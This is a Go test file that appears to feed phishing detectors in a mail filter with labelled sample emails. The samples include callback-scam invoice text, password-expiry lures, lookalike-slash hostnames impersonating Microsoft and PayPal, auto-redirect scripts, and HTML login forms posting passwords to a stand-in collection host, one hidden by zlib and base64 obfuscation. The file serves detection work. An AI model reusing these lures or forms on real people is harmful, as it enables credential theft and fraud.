package heuristic

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"

	"github.com/kensa-milter/kensa/message"
)

// zlib64 is s compressed by zlib, in base64.
func zlib64(s string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	z.Write([]byte(s))
	z.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// lureGapCases: share lures whose button goes to free hosting, mailbox and
// password lures to a stranger's domain, and the honest mail beside them.
func lureGapCases() map[string][]sample {
	toBob := func(m *message.Message) *message.Message { m.To = "Bob Jones <bob@corp.example>"; return m }
	stranger := func(m *message.Message) *message.Message { return sentBy("it@helpdesk-mail.test", m) }
	return map[string][]sample{
		"free-hosting-lure": {
			{"a shared file whose Open button is a Google Site", subject(`Kenji shared "Q4 Payroll.xlsx" with you`, body(`<p>Kenji Sato shared a file with you.</p><p><a href="https://sites.google.com/view/q4-payroll-share/home">Open</a></p>`)), "1"},
			{"a secure message read on Microsoft Forms", body(`<p>You have received a secure message.</p><p><a href="https://forms.office.com/r/Xk4h8Qw2Lm">Read the message</a></p>`), "1"},
			{"a fax on a Canva site", body(`<p>Fax received: 3 pages.</p><p><a href="https://faxview.my.canva.site/">Open fax</a></p>`), "1"},
			{"a signature request on Wix, German", body(`<p>Bitte prüfen und unterschreiben Sie den Vertrag.</p><p><a href="https://vertrag-7f3a.wixsite.com/doc">Dokument öffnen</a></p>`), "1"},
			{"a colleague's Notion page named by its title", body(`<p>Hi Bob, I shared a document with you in Notion with the Q4 plan, see <a href="https://partner-docs.notion.site/Q4-plan-2f8a1c">Q4 plan</a>.</p>`), ""},
			{"slides on github.io shown by address", body(`<p>I have shared a document with the slides: <a href="https://kenji-sato.github.io/talks/2026-12/">kenji-sato.github.io/talks/2026-12</a></p>`), ""},
			{"a shared Dropbox file with an Open button", body(`<p>Kenji Sato shared a file with you.</p><p><a href="https://www.dropbox.com/scl/fi/ab12/plan.pdf?dl=0">Open</a></p>`), ""},
			{"a survey form with no share lure", body(`<p>Please fill out our short survey.</p><p><a href="https://forms.office.com/r/Xk4h8Qw2Lm">Open the survey</a></p>`), ""},
		},
		"callback-phishing": {
			{"a renewal lure only in Outlook's HTML description", invitation("billing.desk2026@gmail.com", "", "SUMMARY:Invoice NT-88412", "DESCRIPTION:",
				`X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Norton 360 Deluxe</p><p>Your annual subscription was renewed. Amount charged: $399.99</p><p>If you did not authorize this charge\, call our billing desk to cancel: <b>+1 (808) 555-0199</b></p></body></html>`), "2/ics/event.txt"},
			{"a meeting ID beside the lure's number, no conference linked", invitation("billing.desk2026@gmail.com", "", "SUMMARY:Norton 360 Deluxe - subscription renewed",
				`DESCRIPTION:Your annual subscription was renewed. Amount charged: $399.99\nIf you did not authorize this charge\, call our billing desk to cancel: +1 (808) 555-0199\nMeeting ID: 123456\nPasscode: 884211`), "2/ics/event.txt"},
			{"a real Zoom link pasted under the lure's number and a meeting ID", invitation("billing.desk2026@gmail.com", "", "SUMMARY:Norton 360 Deluxe - subscription renewed",
				`DESCRIPTION:Your annual subscription was renewed. Amount charged: $399.99\nIf you did not authorize this charge\, call our billing desk to cancel: +1 (808) 555-0199\nMeeting ID: 123456\nPasscode: 884211\nJoin Zoom Meeting https://us02web.zoom.us/j/84512345678`), "2/ics/event.txt"},
			{"Teams' call-in heading, then the lure's ask before the number", invitation("billing.desk2026@gmail.com", "", "SUMMARY:Norton 360 Deluxe - subscription renewed",
				`DESCRIPTION:Your annual subscription was renewed. Amount charged: $399.99\nClick here to join the meeting <https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc%40thread.v2/0>\nOr call in (audio only) to cancel the renewal and get your refund:\n+1 808-555-0199\,\,812345678#\nPhone Conference ID: 812 345 678#`), "2/ics/event.txt"},
			{"Zoom's dial-by-location heading, the ask right after the number", invitation("billing.desk2026@gmail.com", "", "SUMMARY:Norton 360 Deluxe - order shipped",
				`DESCRIPTION:Your order was shipped. Amount charged: $899.00\nJoin Zoom Meeting https://us02web.zoom.us/j/84512345678\nDial by your location\n+1 808 555 0199 billing desk - to cancel the order\nMeeting ID: 845 1234 5678`), "2/ics/event.txt"},
			{"the lure's number after refund:, which is no reference number", subject("Norton 360 Deluxe renewed", msg(text("1", "Your annual subscription was renewed. Amount charged: $399.99. If you did not authorize this charge, call us to cancel and get your refund: +1 (808) 555-0199"))), "1"},
			{"the lure's number written as a PIN beside a pasted Zoom link", invitation("billing.desk2026@gmail.com", "", "SUMMARY:Norton 360 Deluxe - subscription renewed",
				`DESCRIPTION:Your annual subscription was renewed. Amount charged: $399.99\nIf you did not authorize this charge\, call our billing desk to cancel\, PIN: +1 (808) 555-0199\nJoin Zoom Meeting https://us02web.zoom.us/j/84512345678`), "2/ics/event.txt"},
			{"a Zoom invitation listing many numbers, a renewal on the agenda", invitation("jo@vendor.example.com", "", "SUMMARY:Norton 360 renewal call",
				`DESCRIPTION:Join Zoom Meeting\nhttps://us02web.zoom.us/j/84512345678?pwd=abc\nMeeting ID: 845 1234 5678\n---\nOne tap mobile\n+16465588656\,\,84512345678# US (New York)\n+16699006833\,\,84512345678# US (San Jose)\n---\nDial by your location\n+1 646 558 8656 US (New York)\n+1 669 900 6833 US (San Jose)\n+44 203 481 5237 United Kingdom\nFind your local number: https://us02web.zoom.us/u/kbXyZ\nAgenda: the renewal of the subscription\, the invoice charged in November ($399.99) and whether to cancel.`), ""},
			{"a Webex invitation's Join by phone, a refund on the agenda", invitation("jo@vendor.example.com", "", "SUMMARY:McAfee invoice review",
				`DESCRIPTION:Join meeting: https://vendor.webex.com/vendor/j.php?MTID=m1234\nMeeting number (access code): 2550 123 4567\nJoin by phone\n+1-415-655-0001 US Toll\nAccess code: 2550 123 4567\nAgenda: refund of the duplicate invoice of $399.99 charged in October\, cancel the renewal.`), ""},
			{"a Teams invitation in HTML with its dial-in", invitation("jo@reseller.example.com", "", "SUMMARY:Microsoft 365 renewal review", "DESCRIPTION:Microsoft Teams meeting",
				`X-ALT-DESC;FMTTYPE=text/html:<p>Agenda: the renewal invoice of $12\,400.00 was charged\; decide whether to cancel unused seats.</p><p><a href="https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc%40thread.v2/0">Click here to join the meeting</a></p><p>Or call in (audio only)<br>+1 323-555-0101\,\,812345678# United States<br>Phone Conference ID: 812 345 678#</p>`), ""},
		},
		"html-credential-form": {
			{"a login page pako inflates and writes", attach(htmlPart("2", `<html><body><script src="https://cdn.example.net/pako.min.js"></script><script>document.write(pako.inflate(Uint8Array.from(atob("`+
				zlib64(`<form method="post" action="https://collect.example.net/p"><input type="password" name="p"><button>Sign in</button></form>`)+`"), c => c.charCodeAt(0)), {to: "string"}));</script></body></html>`, named("Invoice.html"))), "2"},
			{"a password field and its form made by script", attach(htmlPart("2", `<html><body><script>var f = document.createElement("form"); f.action = "https://collect.example.net/p"; var i = document.createElement("input"); i.type = "password"; f.appendChild(i); document.body.appendChild(f);</script></body></html>`, named("Invoice.html"))), "2"},
			{"a page that inflates a chart's data", attach(htmlPart("2", `<html><body><script>var d = pako.inflate(Uint8Array.from(atob("`+zlib64(`{"sales":[1,2,3,4,5,6,7,8,9,10,11,12]}`)+`"), c => c.charCodeAt(0)), {to: "string"}); draw(JSON.parse(d));</script></body></html>`, named("report.html"))), ""},
		},
		"html-redirect-attachment": {
			{"a link made by script and clicked on load", attach(htmlPart("2", `<html><body><p>Opening...</p><script>var a = document.createElement("a"); a.href = "https://landing.example.net/x"; document.body.appendChild(a); a.click();</script></body></html>`, named("Doc.html"))), "2"},
			{"a link made by script, clicked when the reader clicks", attach(htmlPart("2", `<html><body><button onclick="go()">Open</button><script>function go() { var a = document.createElement("a"); a.href = "https://docs.example.net/x"; a.click(); }</script></body></html>`, named("Doc.html"))), ""},
			{"a download link clicked by script", attach(htmlPart("2", `<html><body><script>var a = document.createElement("a"); a.href = "https://files.example.net/report.csv"; a.download = "report.csv"; a.click();</script></body></html>`, named("Doc.html"))), ""},
			{"a made link sent a mouse click event", attach(htmlPart("2", `<html><body><script>var a = document.createElement("a"); a.href = "https://landing.example.net/x"; document.body.appendChild(a); a.dispatchEvent(new MouseEvent("click", {bubbles: true}));</script></body></html>`, named("Doc.html"))), "2"},
			{"a link made by Object.assign and clicked", attach(htmlPart("2", `<html><body><script>Object.assign(document.createElement("a"), {target: "_self", href: "https://landing.example.net/x"}).click();</script></body></html>`, named("Doc.html"))), "2"},
			{"a plain click Event, which no link follows", attach(htmlPart("2", `<html><body><script>var a = document.createElement("a"); a.href = "https://landing.example.net/x"; a.dispatchEvent(new Event("click"));</script></body></html>`, named("Doc.html"))), ""},
			{"a mouse click event sent when the reader clicks", attach(htmlPart("2", `<html><body><button id="b">Open</button><script>document.getElementById("b").addEventListener("click", function () { var a = document.createElement("a"); a.href = "https://docs.example.net/x"; a.dispatchEvent(new MouseEvent("click")); });</script></body></html>`, named("Doc.html"))), ""},
			{"Object.assign of a download link", attach(htmlPart("2", `<html><body><script>Object.assign(document.createElement("a"), {href: "https://files.example.net/r.csv", download: "r.csv"}).click();</script></body></html>`, named("Doc.html"))), ""},
			{"a hidden link of the markup clicked by id", attach(htmlPart("2", `<html><body><a id="go" href="https://landing.example.net/x" style="display:none">x</a><script>document.getElementById("go").click();</script></body></html>`, named("Doc.html"))), "2"},
			{"a link found by selector, clicked in a timer", attach(htmlPart("2", `<html><body><a class="btn go" href="https://landing.example.net/x"></a><script>setTimeout(function () { document.querySelector("a.go").click(); }, 500);</script></body></html>`, named("Doc.html"))), "2"},
			{"a link found by id into a variable, clicked on load", attach(htmlPart("2", `<html><body onload="var l = document.getElementById('go'); l.click();"><a id="go" href="https://landing.example.net/x">x</a></body></html>`, named("Doc.html"))), "2"},
			{"the document's first link", attach(htmlPart("2", `<html><body><a href="https://landing.example.net/x">x</a><script>document.links[0].dispatchEvent(new MouseEvent("click"));</script></body></html>`, named("Doc.html"))), "2"},
			{"a link found by class name", attach(htmlPart("2", `<html><body><a class="next" href="https://landing.example.net/x">x</a><script>document.getElementsByClassName("next")[0].click();</script></body></html>`, named("Doc.html"))), "2"},
			{"a markup link clicked when the reader clicks", attach(htmlPart("2", `<html><body><a id="go" href="https://docs.example.net/x">Open</a><button onclick="document.getElementById('go').click()">Open</button></body></html>`, named("Doc.html"))), ""},
			{"a markup download link clicked by id", attach(htmlPart("2", `<html><body><a id="dl" href="https://files.example.net/r.csv" download="r.csv">r.csv</a><script>document.getElementById("dl").click();</script></body></html>`, named("Doc.html"))), ""},
			{"a button, no link, clicked by id", attach(htmlPart("2", `<html><body><a href="https://docs.example.net/x">docs</a><button id="tab1">Tab</button><script>document.getElementById("tab1").click();</script></body></html>`, named("Doc.html"))), ""},
			{"a selector this does not read", attach(htmlPart("2", `<html><body><a href="https://docs.example.net/x">docs</a><div class="tabs"><span>t</span></div><script>document.querySelector(".tabs > span").click();</script></body></html>`, named("Doc.html"))), ""},
		},
		"slash-lookalike-host": {
			{"a fraction slash after the brand's domain", body("<a href=\"https://login.microsoftonline.com\u2044common\u2044oauth2.auth-7f3a.example.net/authorize\">Sign in</a>"), "1"},
			{"a division slash in plain text", msg(text("1", "Sign in at https://login.microsoftonline.com\u2215common.auth-7f3a.example.net/x")), "1"},
			{"katakana no between letters", body("<a href=\"https://paypal.com\u30cesignin.example.net/x\">Sign in</a>"), "1"},
			{"a Japanese name with katakana no", body("<a href=\"https://\u30ce\u30fc\u30c8.example.jp/\">\u30ce\u30fc\u30c8</a>"), ""},
			{"a fraction in the text beside a link", msg(text("1", "Use 1\u20442 cup of flour, see https://recipes.example.com/cake")), ""},
			{"a full-width slash: Chromium refuses the link", body("<a href=\"https://login.microsoftonline.com\uff0fcommon.auth-7f3a.example.net/x\">Sign in</a>"), ""},
		},
		"link-text-mismatch": {
			{"link text whose host ends at a fraction slash", body("<a href=\"https://auth-7f3a.example.net/authorize\">https://login.microsoftonline.com\u2044common\u2044oauth2/authorize</a>"), "1"},
		},
		"account-lure-link": {
			{"password expires, Keep my password", stranger(body(`<p>Your password expires today.</p><p><a href="https://mail-keep.example.org/owa/">Keep my password</a></p>`)), "1"},
			{"mailbox full, one stranger's link", stranger(body(`<p>Your mailbox is full. Incoming mail will be returned to senders.</p><p><a href="https://upgrade-storage.example.net/x">Get more space now</a></p>`)), "1"},
			{"the lure's button among decoys", stranger(body(`<p>Your password expires today.</p><p><a href="https://keep-pass.example.org/k">Keep current password</a></p><p><a href="https://a.example.com/">privacy</a> <a href="https://b.example.com/">terms</a> <a href="https://c.example.com/">help</a></p>`)), "1"},
			{"German, in the subject", subject("Ihr Kennwort läuft heute ab", stranger(body(`<p><a href="https://kennwort-behalten.example.org/">Kennwort behalten</a></p>`))), "1"},
			{"the company's own portal", sentBy("it@corp.example", body(`<p>Your password expires in 5 days. Change it at <a href="https://sso.corp.example/password">the company portal</a>.</p>`)), ""},
			{"Microsoft's password reset", stranger(body(`<p>Your password expires in 5 days. <a href="https://passwordreset.microsoftonline.com/">Change password</a></p>`)), ""},
			{"the company's Okta", stranger(body(`<p>Your password will expire in 3 days. <a href="https://corp.okta.com/enduser/settings">Change password</a></p>`)), ""},
			{"a service's app on a domain of the same name", sentBy("notifications@mail.saasco.test", body(`<p>Your password expires in 7 days. <a href="https://app.saasco.example/settings/password">Change password</a></p>`)), ""},
			{"a newsletter's tip among its links", stranger(body(`<p>When your password expires, choose a long passphrase. Read more on <a href="https://a.example.com/">our blog</a>, <a href="https://b.example.com/">the forum</a> and <a href="https://c.example.com/">the wiki</a>.</p>`)), ""},
			{"verify your account is a service's own", stranger(body(`<p>Please verify your account. <a href="https://app.other-saas.example.net/verify">Verify</a></p>`)), ""},
			{"through a click tracker", stranger(body(`<p>Your storage is full. <a href="https://u123.ct.sendgrid.net/ls/click?upn=abc">Upgrade your plan</a></p>`)), ""},
			{"on free hosting: free-hosting-lure's", stranger(body(`<p>Your password expires today. <a href="https://keep-7f3a.weebly.com/">Keep my password</a></p>`)), ""},
			{"the company's own notice, its portal on a domain of another name", sentBy("it@corp.example", toBob(body(`<p>Your password expires in 5 days. Change it at <a href="https://passwords.corp-identity.example.net/change">the password portal</a>.</p>`))), ""},
			{"a service desk linking the recipient's own webmail", stranger(toBob(body(`<p>Your password expires in 5 days. <a href="https://mail.corp.example/owa/">Change it in Outlook on the web</a></p>`))), ""},
		},
		"account-lure-own-mailbox": {
			{"the recipient's domain in the subject", subject("corp.example: mailbox is full", stranger(toBob(body(`<p>Your mailbox is full. Incoming mail will be returned.</p><p><a href="https://storage-upgrade.example.net/q">Increase storage</a></p>`)))), "1"},
			{"the recipient's address in the text", stranger(toBob(body(`<p>Dear bob@corp.example, your password expires today.</p><p><a href="https://mail-keep.example.org/owa/">Keep my password</a></p>`))), "1"},
			{"the recipient's domain in the link", stranger(toBob(body(`<p>Your password expires today.</p><p><a href="https://mail-keep.example.org/corp.example/owa/">Keep my password</a></p>`))), "1"},
			{"no word of the recipient", stranger(toBob(body(`<p>Your password expires today.</p><p><a href="https://mail-keep.example.org/owa/">Keep my password</a></p>`))), ""},
			{"the recipient's mail host linking its own site", sentBy("notify@mailhost.example", toBob(body(`<p>Dear bob@corp.example, your mailbox is full. <a href="https://www.mailhost.example/account/storage">Manage storage</a></p>`))), ""},
			{"a colleague's mail from the recipient's domain", sentBy("it@corp.example", toBob(body(`<p>Your corp.example password expires today. <a href="https://mail-keep.example.org/owa/">Keep my password</a></p>`))), ""},
		},
	}
}
